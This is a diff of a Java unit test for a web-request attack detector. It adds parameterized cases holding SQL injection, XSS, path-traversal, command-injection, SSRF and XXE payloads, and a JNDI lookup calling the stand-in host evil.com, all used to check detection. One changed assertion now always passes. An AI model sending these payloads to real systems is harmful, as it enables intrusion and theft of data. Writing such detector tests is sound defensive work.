@@ -7,6 +7,7 @@ import java.util.Objects;
 import java.util.Random;
 import java.util.Set;
 import java.util.function.Consumer;
+import org.guardagent.detect.model.AttackModel;
 import org.guardagent.gate.Detector.Detection;
 import org.guardagent.gate.Visit;
 import org.guardagent.gate.route.DetectionExclusions;
@@ -18,11 +19,14 @@ import org.jspecify.annotations.Nullable;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
-class PatternDetectorTest {
+class AttackDetectorTest {
 
-  private final PatternDetector detector = new PatternDetector(1.0);
+  private static final AttackModel MODEL = AttackModel.load();
+
+  private final AttackDetector detector = new AttackDetector(MODEL, 1.0);
   private final SamplePolicy policy = new SamplePolicy();
 
   @BeforeEach
@@ -98,8 +102,11 @@ class PatternDetectorTest {
 
   @ParameterizedTest
   @ValueSource(strings = {"Authorization", "Cookie", "COOKIE", "Proxy-Authorization", "X-API-Key"})
-  void credentialsAreNeitherSearchedNorShown(String header) {
-    assertThat(inspect(new SampleRequest().header(header, "evilthing"))).isNull();
+  void credentialsAreSearchedButNotShown(String header) {
+    Detection found = find(new SampleRequest().header(header, "sid=evilthing"));
+
+    assertThat(found.preview()).isEqualTo("[masked]");
+    assertThat(found.toString().replace("evil\\s*thing", "")).doesNotContain("evilthing");
   }
 
   @ParameterizedTest
@@ -157,6 +164,101 @@ class PatternDetectorTest {
     assertThat(inspect(evil)).isNull();
   }
 
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      value = {
+        "q=1'+or+'1'%3D'1 | sqli | query_param:q",
+        "q=%253Cscript%253Ealert(1)%253C/script%253E | xss | query_param:q",
+        "f=../../../etc/passwd | path_traversal | query_param:f",
+        "h=127.0.0.1;cat+/etc/passwd | cmd_injection | query_param:h",
+        "x=${jndi:ldap://evil.com/a} | code_injection | query_param:x",
+        "u=http://169.254.169.254/latest/meta-data/ | ssrf | query_param:u",
+        "n=<!DOCTYPE+a+[<!ENTITY+b+SYSTEM+\"file:///etc/passwd\">]> | xml | query_param:n"
+      })
+  void attacksAreFoundWithoutAnyPattern(String query, String category, String context) {
+    policy.patterns = PatternSet.EMPTY;
+    Detection found = find(new SampleRequest().query(query));
+
+    assertThat(found.categories()).containsExactly(category);
+    assertThat(found.context()).isEqualTo(context);
+    assertThat(found.score()).isGreaterThanOrEqualTo(1);
+  }
+
+  @Test
+  void attacksAreFoundInEveryPlace() {
+    String attack = "1' union select password from users--";
+    String form = "application/x-www-form-urlencoded";
+    assertThat(context(new SampleRequest().header("User-Agent", "${jndi:ldap://evil.com/a}")))
+        .isEqualTo("header:user-agent");
+    assertThat(context(new SampleRequest().header("Accept-Language", "${jndi:ldap://evil.com/a}")))
+        .isEqualTo("header:accept-language");
+    assertThat(context(new SampleRequest().header("Cookie", "a=1; b=" + attack)))
+        .isEqualTo("cookie:b");
+    assertThat(context(new SampleRequest().body(form, "a=" + attack))).isEqualTo("request_body:a");
+    assertThat(json("{\"a\":{\"b\":[\"" + attack + "\"]}}")).isEqualTo("request_body:b");
+    assertThat(context(new SampleRequest().body("text/xml", "<a><b c=\"" + attack + "\"/></a>")))
+        .isEqualTo("request_body:c");
+    assertThat(context(new SampleRequest().body("text/xml", "<a><b>" + attack + "</b></a>")))
+        .isEqualTo("request_body:b");
+    String part = "--x\r\nContent-Disposition: form-data; name=\"n\"";
+    assertThat(
+            context(
+                new SampleRequest()
+                    .body("multipart/form-data; boundary=x", part + "\r\n\r\n" + attack)))
+        .isEqualTo("request_body:n");
+    assertThat(
+            context(
+                new SampleRequest()
+                    .body(
+                        "multipart/form-data; boundary=x",
+                        part + "; filename=\"shell.jsp\"\r\n\r\n<%= 1 %>")))
+        .isEqualTo("request_body:n");
+  }
+
+  @Test
+  void onlyChosenCategoriesAreLookedFor() {
+    SampleRequest attack = new SampleRequest().query("q=1'+union+select+1,2,3--");
+    assertThat(inspect(attack)).isNotNull();
+    policy.exclusions = new DetectionExclusions(Set.of(), Set.of(), Set.of(), Set.of("xss"), null);
+    assertThat(inspect(attack)).isNull();
+  }
+
+  @Test
+  void ordinaryRequestOfABrowserIsLeftAlone() {
+    SampleRequest request =
+        new SampleRequest()
+            .path("/shop/articles/42;jsessionid=0A1B2C3D4E5F60718293A4B5C6D7E8F9")
+            .query("q=O%27Reilly+%26+Sons&sort=price,asc&from=2026-01-01T00:00:00Z&max=%E2%82%AC20")
+            .header("Host", "shop.example.com:8443")
+            .header("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
+            .header("Accept-Language", "en-US,en;q=0.5")
+            .header("Sec-CH-UA", "\"Chromium\";v=\"142\", \"Not)A;Brand\";v=\"99\"")
+            .header("Referer", "https://shop.example.com/search?q=select+a+table&page=2")
+            .header(
+                "User-Agent",
+                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
+                    + " Chrome/142.0.0.0 Safari/537.36")
+            .header("Cookie", "theme=dark; sid=Zm9vYmFyMTIzNDU2Nzg5MA==; consent={\"ads\":false}")
+            .body(
+                "application/json", "{\"name\":\"Tom & Jerry's\",\"note\":\"50% off; call me!\"}");
+
+    assertThat(inspect(request)).isNull();
+  }
+
+  /** A hard password is no attack; an attack in a password's place still is. */
+  @Test
+  void passwordsMayLookLikeAnything() {
+    String form = "application/x-www-form-urlencoded";
+    for (String password : List.of("K'7s%22;--x9", "a<b>c$(d)", "p'w\"d;1#", "x' OR y", "{{77}}")) {
+      assertThat(context(new SampleRequest().body(form, "user=ada&password=" + password)))
+          .as(password)
+          .isNull();
+    }
+    assertThat(context(new SampleRequest().body(form, "password=' or '1'='1' union select 1,2--")))
+        .isEqualTo("request_body:password");
+  }
+
   @Test
   void reDosPatternOfThePlatformEndsQuickly() {
     policy.patterns = PatternSet.of(List.of("(a+)+$", "(a|aa)+$", "^(([a-z])+.)+[A-Z]([a-z])+$"));
@@ -184,7 +286,7 @@ class PatternDetectorTest {
               .query(text.toString())
               .header("X-Any", text.toString())
               .body(type, text.toString());
-      assertThat(inspect(request)).isNull();
+      assertThat(inspect(request)).isEqualTo(inspect(request));
     }
     assertThat(json("[".repeat(4_000))).isNull();
   }
